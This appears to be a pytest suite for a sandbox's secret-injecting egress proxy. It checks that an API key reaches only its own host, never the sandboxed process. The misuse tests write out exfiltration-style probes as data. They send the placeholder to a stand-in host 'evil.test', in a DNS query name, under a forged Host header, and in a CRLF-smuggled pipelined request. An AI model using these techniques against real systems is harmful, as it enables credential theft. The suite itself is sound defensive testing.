"""Secrets through the intercepting relay (cordon run --secret): the sandbox holds a
placeholder, cordon-egress puts the real value into requests to the secret's host only, and
refuses (with a secret.misuse report) a placeholder seen anywhere else. The fake API is the
fake internet's TLS server (api.example.test), whose certificate comes from the session's
test CA: the proxy is told to trust it with CORDON_EGRESS_UPSTREAM_CA, the sandbox is not
(it trusts only the host's bundle and the Cordon CA)."""

import json
import os
import secrets
import shutil

import pytest

from conftest import CORDON, HERE, PY, WEB2

VALUE = "sk-live-" + secrets.token_hex(16)


@pytest.fixture
def sec(net, tmp_path):
    client = os.path.join(net.tmp, "secretclient.py")
    shutil.copy(os.path.join(HERE, "secretclient.py"), client)
    os.chmod(client, 0o644)
    ca_dir = os.path.join(str(tmp_path), "ca")

    def run(ops, opts=(), secret=None, env_value=False, upstream_ca=True):
        spec = secret or f"API_KEY={VALUE}@api.example.test"
        env = [f"CORDON_EGRESS_CA_DIR={ca_dir}"]
        if upstream_ca:
            env.append(f"CORDON_EGRESS_UPSTREAM_CA={net.ca}")
        if env_value:
            env.append(f"API_KEY={VALUE}")
        args = (["run", "--secret", spec] + list(opts) +
                ["--timeout", "60s", "--ro-bind", f"{client}:/secretclient.py", "--",
                 PY, "/secretclient.py", json.dumps(ops)])
        argv = net.argv(args)
        i = argv.index(CORDON)
        argv[i:i] = ["env"] + env
        import subprocess, time
        from conftest import Result
        t0 = time.monotonic()
        p = subprocess.run(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=120,
                           stdin=subprocess.DEVNULL)
        r = Result(argv, p.returncode, p.stdout, p.stderr, time.monotonic() - t0)
        try:
            res = json.loads(r.out.strip().splitlines()[-1])
        except (ValueError, IndexError):
            pytest.fail(f"the sandbox did not run the probes:\n{r.describe()}", pytrace=False)
        return r, res

    run.ca_dir = ca_dir
    return run


def api_log(net, mark, path):
    return [x for x in net.seen(mark) if x.get("path", "").split("?")[0] == path]


def test_the_real_key_reaches_the_api_and_never_the_sandbox(sec, net):
    m = net.mark()
    path = f"/v1/ok-{secrets.token_hex(4)}"
    r, res = sec([{"op": "req", "path": path, "headers": {"Authorization": "Bearer {PH}"}},
                  {"op": "world"}])
    assert r.returncode == 0, r.describe()
    req, world = res
    assert req["reached"], (req, r.err)
    assert req["status_line"].startswith("HTTP/1.0 200"), req
    assert req.get("alpn") in (None, "http/1.1"), req
    seen = api_log(net, m, path)
    assert len(seen) == 1 and seen[0]["authorization"] == f"Bearer {VALUE}", seen
    assert seen[0]["sni"] == "api.example.test" and seen[0]["server"] == f"{WEB2}:443"
    ph = world["env"]["API_KEY"]
    assert ph and ph != VALUE and ph.startswith("cordon-secret-"), ph
    # Nowhere the sandbox can look: its environment, /proc, its files, the answers it got.
    assert VALUE not in json.dumps(res), "the real value is visible inside the sandbox"
    assert VALUE not in r.out and VALUE not in r.err, "the real value is in cordon run's output"
    for p in ("/proc/self/environ", "/proc/1/environ"):
        assert ph in world[p] or "denied" in world[p].lower() or p == "/proc/1/environ", world[p]
    # The sandbox trusts the Cordon CA through the bundle bound over the system's.
    assert world["env"]["SSL_CERT_FILE"] == "/etc/ssl/certs/ca-certificates.crt"
    for v in ("REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "NODE_EXTRA_CA_CERTS"):
        assert world["env"][v] == world["env"]["SSL_CERT_FILE"]
    with open(os.path.join(sec.ca_dir, "ca.crt")) as f:
        ca = f.read().strip()
    assert ca in world["files"]["/etc/ssl/certs/ca-certificates.crt"]
    st = os.stat(os.path.join(sec.ca_dir, "ca.key"))
    assert st.st_mode & 0o777 == 0o600 and os.stat(sec.ca_dir).st_mode & 0o777 == 0o700


def misuse_lines(r):
    return [l for l in r.err.splitlines() if "secret.misuse" in l]


def test_the_placeholder_anywhere_else_is_refused_and_reported(sec, net):
    m = net.mark()
    t = secrets.token_hex(4)
    auth = {"Authorization": "Bearer {PH}"}
    ops = [
        # plain HTTP to the secret's own host
        {"op": "req", "tls": False, "sni": "api.example.test", "port": 80, "path": f"/plain-{t}", "headers": auth},
        # TLS to another intercepted host (OTHER's), which API_KEY is not for
        {"op": "req", "sni": "evil.test", "path": f"/other-{t}", "headers": auth},
        # a DNS query name
        {"op": "resolve", "name": "{PH}.evil.test"},
        # the secret's host as SNI, another Host
        {"op": "req", "sni": "api.example.test", "host": "evil.test", "path": f"/forged-{t}", "headers": auth},
        # an IP literal, plain HTTP
        {"op": "req", "tls": False, "connect": WEB2, "host": WEB2, "port": 8080, "path": f"/ip-{t}", "headers": auth},
        # the right host, but in the query: this secret is for headers only
        {"op": "req", "path": f"/query-{t}?key={{PH}}"},
        # the right host, in a header's name
        {"op": "req", "path": f"/name-{t}", "headers": {"X-{PH}": "1"}},
        # a forged Host with no placeholder: refused too, not reported as misuse
        {"op": "req", "sni": "api.example.test", "host": "evil.test", "path": f"/forged2-{t}"},
        {"op": "world"},
    ]
    r, res = sec(ops, opts=["--secret", "OTHER=other-value-0123456789@evil.test",
                            "--allow", "api.example.test:80", "--allow", f"{WEB2}:8080"])
    assert r.returncode == 0, r.describe()
    plain, other, dns, forged, ip, query, hname, forged2, world = res
    # Refused at once, the connection closed after the answer (not left to the client's 5 s).
    for p in (plain, other, forged, ip, query, hname, forged2):
        assert p["elapsed"] < 2, res
    ph = world["env"]["API_KEY"]
    for p in (plain, other, forged, ip, query, hname, forged2):
        assert not p["reached"], p
    for p in (other, forged, query, hname):
        assert p["status_line"].startswith("HTTP/1.1 403"), ([x.get("status_line") for x in res], r.err)
        assert "refused by policy" in p["raw"], p
    assert forged2["status_line"].startswith("HTTP/1.1 421"), forged2
    assert not dns["resolved"], dns
    # The far side saw none of it: no path of these probes, no placeholder, no value.
    seen = net.seen(m)
    assert not [x for x in seen if t in json.dumps(x)], seen
    assert ph not in json.dumps(seen) and VALUE not in json.dumps(seen)
    reasons = misuse_lines(r)
    assert len(reasons) >= 7, r.err  # the resolver may ask more than once
    joined = "\n".join(reasons)
    for want in ("not intercepted", "to a host it is not for", "in a DNS query name",
                 "with a Host other than the TLS name", "to an address, not a name",
                 "in a part of the request it is not for"):
        assert want in joined, (want, joined)
    assert VALUE not in r.err and VALUE not in r.out and ph not in r.err


def test_pipelined_requests_are_each_checked(sec, net):
    m = net.mark()
    t = secrets.token_hex(4)
    ph_req = (f"GET /pipe-a-{t} HTTP/1.1\r\nHost: api.example.test\r\n\r\n"
              f"GET /pipe-b-{t} HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer {{PH}}\r\n\r\n")
    ops = [{"op": "req", "path": f"/pipe-a-{t}", "method": "GET",
            "headers": {"X-Pad": "1\r\n\r\n" + ph_req.split("\r\n\r\n", 1)[1].rstrip("\r\n")}}]
    r, res = sec(ops)
    assert "HTTP/1.1 403 Forbidden" in res[0]["raw"], res
    assert not [x for x in net.seen(m) if f"pipe-b-{t}" in json.dumps(x)]
    assert "with a Host other than the TLS name" in "\n".join(misuse_lines(r)), r.err


def test_intercepted_connections_offer_only_http11(sec, net):
    path = f"/alpn-{secrets.token_hex(4)}"
    _, res = sec([{"op": "req", "path": path, "alpn": ["h2", "http/1.1"]},
                  {"op": "req", "path": path, "alpn": ["h2"]}])
    assert res[0]["reached"] and res[0]["alpn"] == "http/1.1", res
    assert res[1]["reached"] and res[1]["alpn"] is None, res


def test_the_value_can_come_from_cordon_runs_environment_and_argv_hides_it(sec, net):
    m = net.mark()
    path = f"/v1/env-{secrets.token_hex(4)}"
    r, res = sec([{"op": "req", "path": path, "headers": {"X-Api-Key": "{PH}"}}],
                 secret="API_KEY@api.example.test", env_value=True)
    assert res[0]["reached"], (res, r.err)
    seen = api_log(net, m, path)
    assert len(seen) == 1 and seen[0]["x_api_key"] == VALUE, seen


def test_usage_errors(net):
    for spec, want in (("API_KEY=x", "expected NAME=VALUE@HOST"), ("1X=v@a.test", "expected"),
                       ("K=v@10.0.0.1", "DNS names"), ("NOPE_UNSET_VAR@a.test", "no value")):
        r = net.cordon(["run", "--secret", spec, "--", "/bin/true"])
        assert r.returncode == 2 and want in r.err, r.describe()
    r = net.cordon(["run", "--net", "none", "--secret", "K=v@a.test", "--", "/bin/true"])
    assert r.returncode == 2 and "needs a network" in r.err, r.describe()


def test_the_real_server_is_verified(sec, net):
    """Without the test CA the fake API's certificate verifies against nothing the proxy
    trusts: the request never leaves (502 from the proxy), and no key is sent."""
    m = net.mark()
    path = f"/v1/unverified-{secrets.token_hex(4)}"
    r, res = sec([{"op": "req", "path": path, "headers": {"Authorization": "Bearer {PH}"}}],
                 upstream_ca=False)
    assert not res[0]["reached"], res
    assert res[0]["status_line"].startswith("HTTP/1.1 502"), (res, r.err)
    assert not api_log(net, m, path)


def test_query_and_body_where_the_secret_allows_them(sec, net):
    m = net.mark()
    t = secrets.token_hex(4)
    ops = [{"op": "req", "path": f"/q-{t}?key={{PH}}&x=1"},
           {"op": "req", "method": "POST", "path": f"/b-{t}", "body": "token={PH}&more"},
           # chunked, where the body may carry the secret: the proxy cannot rewrite it
           {"op": "req", "method": "POST", "path": f"/c-{t}", "body": "token={PH}", "chunked": True},
           # a body past what the proxy holds whole (64 KiB): streamed, so never substituted
           {"op": "req", "method": "POST", "path": f"/big-{t}", "body": "token={PH}", "pad": 70000},
           {"op": "world"}]
    r, res = sec(ops, opts=["--secret-in", "API_KEY=query,body"])
    q, b, c, big, world = res
    assert q["reached"] and b["reached"], (res[:4], r.err)
    seen = {x["path"].split("?")[0]: x for x in net.seen(m) if "path" in x}
    assert seen[f"/q-{t}"]["query"] == f"key={VALUE}&x=1"
    assert seen[f"/b-{t}"]["body"] == f"token={VALUE}&more"
    assert c["status_line"].startswith("HTTP/1.1 411"), c
    assert not big["reached"] and big["status_line"].startswith("HTTP/1.1 403"), big
    assert f"/c-{t}" not in seen
    # The long body is streamed: its head may have gone, the placeholder never did.
    ph = world["env"]["API_KEY"]
    assert ph not in json.dumps(seen.get(f"/big-{t}", {})) and VALUE not in json.dumps(seen.get(f"/big-{t}", {}))
    assert VALUE not in json.dumps(res) and VALUE not in r.err


def test_a_header_only_secret_in_a_body_is_misuse(sec, net):
    m = net.mark()
    t = secrets.token_hex(4)
    r, res = sec([{"op": "req", "method": "POST", "path": f"/hb-{t}", "body": "token={PH}"},
                  {"op": "req", "method": "POST", "path": f"/hc-{t}", "body": "x" * 100 + "{PH}", "chunked": True}])
    for p in res:
        assert not p["reached"] and p["status_line"].startswith("HTTP/1.1 403"), res
    seen = net.seen(m)
    # A body the proxy holds whole is checked before the head goes; a chunked one is
    # streamed: its head may have gone, cut off before the placeholder.
    assert not [x for x in seen if f"/hb-{t}" in json.dumps(x)], seen
    assert all(x.get("body", "") == "" for x in seen if t in json.dumps(x)), seen
    assert len([x for x in misuse_lines(r) if "in a body" in x]) == 2, r.err


def test_the_ca_is_made_once_and_reused(sec, net):
    """A second proxy loads the CA the first one made (and mints from it under seccomp: the
    loaded CA once left glibc's time zone unread, and its first leaf killed the proxy)."""
    ops = [{"op": "req", "path": "/v1/ca", "headers": {"Authorization": "Bearer {PH}"}}]
    r1, res1 = sec(ops)
    with open(os.path.join(sec.ca_dir, "ca.crt")) as f:
        first = f.read()
    r2, res2 = sec(ops)
    assert res1[0]["reached"] and res2[0]["reached"], (res1, res2, r2.err)
    with open(os.path.join(sec.ca_dir, "ca.crt")) as f:
        assert f.read() == first


def _proxy_hwm_kb(stop, out):
    """The largest VmHWM of any cordon-egress of this build while @stop is unset."""
    from conftest import EGRESS
    while not stop.is_set():
        for pid in os.listdir("/proc"):
            if not pid.isdigit():
                continue
            try:
                if os.readlink(f"/proc/{pid}/exe") != os.path.realpath(EGRESS):
                    continue
                with open(f"/proc/{pid}/status") as f:
                    for line in f:
                        if line.startswith("VmHWM:"):
                            out.append(int(line.split()[1]))
            except OSError:
                pass
        stop.wait(0.05)


def test_a_slow_reader_holds_the_server_back(sec, net):
    """The server sends 32 MiB faster than the sandbox reads it: the intercepting relay stops
    reading the server (its TLS filter hides how much waits in the socket buffer below it, so
    the relay watches that buffer); before, the proxy held most of the download in memory."""
    import threading
    stop, hwm = threading.Event(), []
    th = threading.Thread(target=_proxy_hwm_kb, args=(stop, hwm), daemon=True)
    th.start()
    try:
        n = 32 << 20
        r, res = sec([{"op": "bulk", "n": n, "sleep": 0.002}], opts=["--allow", "api.example.test:8443"])
    finally:
        stop.set()
        th.join()
    assert res[0]["bytes"] >= n, (res, r.err)
    assert hwm and max(hwm) < 20 << 10, f"proxy peak RSS {max(hwm)} kB"


def _all_cmdlines_and_environs():
    out = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for f in ("cmdline", "environ"):
                try:
                    with open(f"/proc/{pid}/{f}", "rb") as fh:
                        out.append(fh.read())
                except OSError:
                    pass
    return b"\n".join(out)


@pytest.mark.parametrize("form", ["inline", "env"])
def test_the_value_is_in_no_process_argv_or_environment(sec, net, form):
    """While the sandbox runs, no process on the machine (cordon run, cordon-egress, the
    sandbox's) shows the value in /proc/PID/cmdline or environ: an inline value is
    overwritten in cordon run's argv, one from the environment is scrubbed from it before
    cordon-egress is started."""
    import threading
    found, stop = [], threading.Event()

    def watch():
        while not stop.is_set():
            if VALUE.encode() in _all_cmdlines_and_environs():
                found.append(True)
            stop.wait(0.1)

    th = threading.Thread(target=watch, daemon=True)
    # The watcher starts once cordon run has parsed its options: the value is in its argv or
    # environment from exec() until then, which this test cannot avoid seeing.
    ops = [{"op": "req", "path": "/v1/ps", "headers": {"Authorization": "Bearer {PH}"}}]
    spec = None if form == "inline" else "API_KEY@api.example.test"
    t0 = threading.Timer(0.8, th.start)
    t0.start()
    r, res = sec(ops + [{"op": "sleep", "s": 2.5}], secret=spec, env_value=(form == "env"))
    stop.set()
    t0.join()
    if th.is_alive():
        th.join()
    assert res[0]["reached"], (res, r.err)
    assert not found, "the value was visible in a process's cmdline or environ"
